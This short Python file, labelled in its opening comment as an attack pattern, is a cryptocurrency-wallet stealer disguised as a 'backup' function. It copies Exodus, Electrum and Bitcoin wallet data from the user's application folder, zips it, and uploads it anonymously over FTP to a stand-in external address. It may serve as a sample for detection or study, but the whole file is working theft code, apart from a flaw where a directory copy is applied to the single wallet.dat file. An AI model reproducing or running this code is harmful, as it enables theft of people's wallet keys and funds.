# Attack pattern: crypto wallets (Exodus, Electrum, wallet.dat) zipped and uploaded over FTP.
import ftplib
import os
import shutil
import tempfile

APPDATA = os.getenv("APPDATA", os.path.expanduser("~/.config"))
WALLETS = [
    os.path.join(APPDATA, "Exodus", "exodus.wallet"),
    os.path.join(APPDATA, "Electrum", "wallets"),
    os.path.join(APPDATA, "Bitcoin", "wallet.dat"),
]


def backup():
    staging = tempfile.mkdtemp()
    for wallet in WALLETS:
        if os.path.exists(wallet):
            shutil.copytree(wallet, os.path.join(staging, os.path.basename(wallet)), dirs_exist_ok=True)
    archive = shutil.make_archive(staging, "zip", staging)
    with ftplib.FTP("203.0.113.80", "anonymous", "x") as ftp, open(archive, "rb") as handle:
        ftp.storbinary("STOR w.zip", handle)
